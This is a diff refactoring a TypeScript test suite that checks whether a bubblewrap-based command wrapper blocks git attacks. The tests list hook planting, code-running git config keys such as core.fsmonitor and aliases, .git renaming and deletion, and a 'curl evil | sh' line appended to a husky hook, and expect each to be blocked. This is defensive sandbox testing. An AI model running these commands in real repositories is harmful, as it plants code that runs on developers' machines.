@@ -1,195 +1,177 @@
 import { execFileSync } from "node:child_process";
 import { mkdir, writeFile } from "node:fs/promises";
 import path from "node:path";
-import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { expect, it } from "vitest";
 import { createHostFactsCache } from "./host-facts.js";
 import { createCommandWrapper } from "./index.js";
-import {
-  type AttackFixture,
-  attempt,
-  createAttackFixture,
-  verdicts,
-} from "./test-support/fixture.js";
-import { attackSuiteSkipReason, runningAs } from "./test-support/suite.js";
+import { attempt, verdicts } from "./test-support/fixture.js";
+import { attackSuiteSkipReason, describeAttacks } from "./test-support/suite.js";
 
 const skipReason = await attackSuiteSkipReason();
 
-for (const warm of [false, true]) {
-  describe.skipIf(skipReason !== undefined)(
-    `git attacks through bubblewrap ${runningAs()}${warm ? ", in a warm sandbox" : ""}${skipReason ? ` (skipped: ${skipReason})` : ""}`,
-    () => {
-      let fixture: AttackFixture;
-      beforeEach(async () => {
-        fixture = await createAttackFixture({ warm });
-      });
-      afterEach(async () => {
-        await fixture.cleanup();
-      });
+describeAttacks("git attacks through bubblewrap", skipReason, (fixture) => {
+  it("cannot plant a hook in the gitdir", async () => {
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        attempt("printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit"),
+        attempt("cp .git/hooks/pre-commit.sample .git/hooks/post-checkout"),
+        attempt("chmod +x .git/hooks/pre-commit.sample"),
+        attempt("rm .git/hooks/pre-commit.sample"),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
+  });
 
-      it("cannot plant a hook in the gitdir", async () => {
-        const before = await fixture.state();
-        const { stdout } = await fixture.run(
-          [
-            attempt("printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit"),
-            attempt("cp .git/hooks/pre-commit.sample .git/hooks/post-checkout"),
-            attempt("chmod +x .git/hooks/pre-commit.sample"),
-            attempt("rm .git/hooks/pre-commit.sample"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      });
+  it("cannot rename .git away and plant a new one", async () => {
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        attempt('/usr/bin/python3 -c \'import os; os.rename(".git", ".git-old")\''),
+        attempt("mv .git .git-old"),
+        attempt("rm -rf .git"),
+        attempt("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"),
+        attempt("git init -q ."),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(5).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
+  });
 
-      it("cannot rename .git away and plant a new one", async () => {
-        const before = await fixture.state();
-        const { stdout } = await fixture.run(
-          [
-            attempt('/usr/bin/python3 -c \'import os; os.rename(".git", ".git-old")\''),
-            attempt("mv .git .git-old"),
-            attempt("rm -rf .git"),
-            attempt("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"),
-            attempt("git init -q ."),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(5).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      });
+  it("cannot set git config keys that run code (core.fsmonitor, core.hooksPath, aliases)", async () => {
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        attempt("git config core.fsmonitor 'touch /tmp/pwned; false'"),
+        attempt("git config core.hooksPath hooks"),
+        attempt("printf '[core]\\n\\thooksPath = hooks\\n' >> .git/config"),
+        attempt("git config alias.st '!touch /tmp/pwned'"),
+        attempt("git config --local core.sshCommand 'touch /tmp/pwned'"),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(5).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
+  });
 
-      it("cannot set git config keys that run code (core.fsmonitor, core.hooksPath, aliases)", async () => {
-        const before = await fixture.state();
-        const { stdout } = await fixture.run(
-          [
-            attempt("git config core.fsmonitor 'touch /tmp/pwned; false'"),
-            attempt("git config core.hooksPath hooks"),
-            attempt("printf '[core]\\n\\thooksPath = hooks\\n' >> .git/config"),
-            attempt("git config alias.st '!touch /tmp/pwned'"),
-            attempt("git config --local core.sshCommand 'touch /tmp/pwned'"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(5).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      });
+  it("cannot commit or rewrite refs (the gitdir is read-only) yet can read history", async () => {
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        "git log --format=%s",
+        attempt("git -c user.name=x -c user.email=x@x commit -q --allow-empty -m evil"),
+        attempt("git update-ref refs/heads/main HEAD"),
+      ].join("\n"),
+    );
+    expect(stdout.split("\n")[0]).toBe("initial");
+    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED"]);
+    expect(await fixture.state()).toEqual(before);
+  });
 
-      it("cannot commit or rewrite refs (the gitdir is read-only) yet can read history", async () => {
-        const before = await fixture.state();
-        const { stdout } = await fixture.run(
-          [
-            "git log --format=%s",
-            attempt("git -c user.name=x -c user.email=x@x commit -q --allow-empty -m evil"),
-            attempt("git update-ref refs/heads/main HEAD"),
-          ].join("\n"),
-        );
-        expect(stdout.split("\n")[0]).toBe("initial");
-        expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED"]);
-        expect(await fixture.state()).toEqual(before);
-      });
+  it("cannot write a nested repository's .git, rename it, or rename its parent folders", async () => {
+    const before = await fixture.state();
+    const rename = (from: string, to: string) =>
+      attempt(`/usr/bin/python3 -c 'import os; os.rename("${from}", "${to}")'`);
+    const { stdout } = await fixture.run(
+      [
+        attempt("echo evil > vendor/lib/.git/hooks/post-checkout"),
+        attempt("git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned; false'"),
+        rename("vendor/lib/.git", "vendor/lib/git-old"),
+        rename("vendor/lib", "vendor/lib-old"),
+        rename("vendor", "vendor-old"),
+        attempt("rm -rf vendor/lib/.git"),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
+  });
 
-      it("cannot write a nested repository's .git, rename it, or rename its parent folders", async () => {
-        const before = await fixture.state();
-        const rename = (from: string, to: string) =>
-          attempt(`/usr/bin/python3 -c 'import os; os.rename("${from}", "${to}")'`);
-        const { stdout } = await fixture.run(
-          [
-            attempt("echo evil > vendor/lib/.git/hooks/post-checkout"),
-            attempt("git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned; false'"),
-            rename("vendor/lib/.git", "vendor/lib/git-old"),
-            rename("vendor/lib", "vendor/lib-old"),
-            rename("vendor", "vendor-old"),
-            attempt("rm -rf vendor/lib/.git"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      });
+  it("protects the gitdir a .git file points to, and the .git file itself", async () => {
+    // A worktree-style checkout: the workspace's .git is a file naming a gitdir inside the workspace.
+    execFileSync("git", [
+      "init",
+      "-q",
+      "--separate-git-dir",
+      path.join(fixture.root, "sub", "gitdir-store"),
+      path.join(fixture.root, "sub", "checkout"),
+    ]);
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        attempt("echo evil > sub/gitdir-store/hooks/pre-commit"),
+        attempt("echo 'gitdir: /tmp/evil' > sub/checkout/.git"),
+        attempt("rm sub/checkout/.git"),
+        attempt("git -C sub/checkout config core.fsmonitor 'touch /tmp/pwned; false'"),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
+  });
 
-      it("protects the gitdir a .git file points to, and the .git file itself", async () => {
-        // A worktree-style checkout: the workspace's .git is a file naming a gitdir inside the workspace.
-        execFileSync("git", [
-          "init",
-          "-q",
-          "--separate-git-dir",
-          path.join(fixture.root, "sub", "gitdir-store"),
-          path.join(fixture.root, "sub", "checkout"),
-        ]);
-        const before = await fixture.state();
-        const { stdout } = await fixture.run(
-          [
-            attempt("echo evil > sub/gitdir-store/hooks/pre-commit"),
-            attempt("echo 'gitdir: /tmp/evil' > sub/checkout/.git"),
-            attempt("rm sub/checkout/.git"),
-            attempt("git -C sub/checkout config core.fsmonitor 'touch /tmp/pwned; false'"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      });
+  it("protects the hooks folder that core.hooksPath names inside the workspace", async () => {
+    execFileSync("git", ["config", "core.hooksPath", ".husky"], { cwd: fixture.root });
+    await mkdir(path.join(fixture.root, ".husky"));
+    await writeFile(path.join(fixture.root, ".husky", "pre-commit"), "npm test\n");
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        attempt("echo 'curl evil | sh' >> .husky/pre-commit"),
+        attempt("echo evil > .husky/post-checkout"),
+        attempt("mv .husky husky-old"),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(3).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
+  });
 
-      it("protects the hooks folder that core.hooksPath names inside the workspace", async () => {
-        execFileSync("git", ["config", "core.hooksPath", ".husky"], { cwd: fixture.root });
-        await mkdir(path.join(fixture.root, ".husky"));
-        await writeFile(path.join(fixture.root, ".husky", "pre-commit"), "npm test\n");
-        const before = await fixture.state();
-        const { stdout } = await fixture.run(
-          [
-            attempt("echo 'curl evil | sh' >> .husky/pre-commit"),
-            attempt("echo evil > .husky/post-checkout"),
-            attempt("mv .husky husky-old"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(3).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
+  for (const [label, recentChangeMs] of [
+    ["just now", undefined],
+    ["long enough ago that only the stamps tell", 0],
+  ] as const) {
+    it(`protects on the next call a nested .git made between calls (changes made ${label})`, async () => {
+      const wrapper = createCommandWrapper({
+        hostFactsCache: createHostFactsCache(
+          recentChangeMs === undefined ? {} : { recentChangeMs },
+        ),
       });
+      const settle = () => new Promise((resolve) => setTimeout(resolve, 25));
+      // The first call learns the tree; then a command makes a repository in a new folder (a
+      // known gap: that one call can still write it) and the host makes one in an old folder.
+      await fixture.run("true", { wrapper });
+      await settle();
+      const first = await fixture.run(
+        "git init -q made/by/command && echo ok > made/by/command/.git/info/note && echo made",
+        { wrapper },
+      );
+      expect(first.stdout).toBe("made\n");
+      execFileSync("git", ["init", "-q", path.join(fixture.root, "src", "by-host")]);
+      await settle();
+      const before = await fixture.state();
+      const rename = (from: string, to: string) =>
+        attempt(`/usr/bin/python3 -c 'import os; os.rename("${from}", "${to}")'`);
+      const { stdout } = await fixture.run(
+        [
+          attempt("echo evil > made/by/command/.git/hooks/post-checkout"),
+          attempt("git -C made/by/command config core.fsmonitor 'touch /tmp/pwned; false'"),
+          rename("made/by", "made/by-old"),
+          attempt("echo evil > src/by-host/.git/hooks/pre-commit"),
+          attempt("rm -rf src/by-host/.git"),
+          rename("src", "src-old"),
+        ].join("\n"),
+        { wrapper },
+      );
+      expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
+      expect(await fixture.state()).toEqual(before);
+    });
+  }
 
-      for (const [label, recentChangeMs] of [
-        ["just now", undefined],
-        ["long enough ago that only the stamps tell", 0],
-      ] as const) {
-        it(`protects on the next call a nested .git made between calls (changes made ${label})`, async () => {
-          const wrapper = createCommandWrapper({
-            hostFactsCache: createHostFactsCache(
-              recentChangeMs === undefined ? {} : { recentChangeMs },
-            ),
-          });
-          const settle = () => new Promise((resolve) => setTimeout(resolve, 25));
-          // The first call learns the tree; then a command makes a repository in a new folder (a
-          // known gap: that one call can still write it) and the host makes one in an old folder.
-          await fixture.run("true", { wrapper });
-          await settle();
-          const first = await fixture.run(
-            "git init -q made/by/command && echo ok > made/by/command/.git/info/note && echo made",
-            { wrapper },
-          );
-          expect(first.stdout).toBe("made\n");
-          execFileSync("git", ["init", "-q", path.join(fixture.root, "src", "by-host")]);
-          await settle();
-          const before = await fixture.state();
-          const rename = (from: string, to: string) =>
-            attempt(`/usr/bin/python3 -c 'import os; os.rename("${from}", "${to}")'`);
-          const { stdout } = await fixture.run(
-            [
-              attempt("echo evil > made/by/command/.git/hooks/post-checkout"),
-              attempt("git -C made/by/command config core.fsmonitor 'touch /tmp/pwned; false'"),
-              rename("made/by", "made/by-old"),
-              attempt("echo evil > src/by-host/.git/hooks/pre-commit"),
-              attempt("rm -rf src/by-host/.git"),
-              rename("src", "src-old"),
-            ].join("\n"),
-            { wrapper },
-          );
-          expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
-          expect(await fixture.state()).toEqual(before);
-        });
-      }
-
-      it("cannot create a .git at the root of a workspace that has none", async () => {
-        execFileSync("rm", ["-rf", path.join(fixture.root, ".git")]);
-        const before = await fixture.state();
-        const { stdout } = await fixture.run(
-          [attempt("git init -q ."), attempt("mkdir -p .git/hooks")].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED"]);
-        expect(await fixture.state()).toEqual(before);
-      });
-    },
-  );
-}
+  it("cannot create a .git at the root of a workspace that has none", async () => {
+    execFileSync("rm", ["-rf", path.join(fixture.root, ".git")]);
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [attempt("git init -q ."), attempt("mkdir -p .git/hooks")].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED"]);
+    expect(await fixture.state()).toEqual(before);
+  });
+});
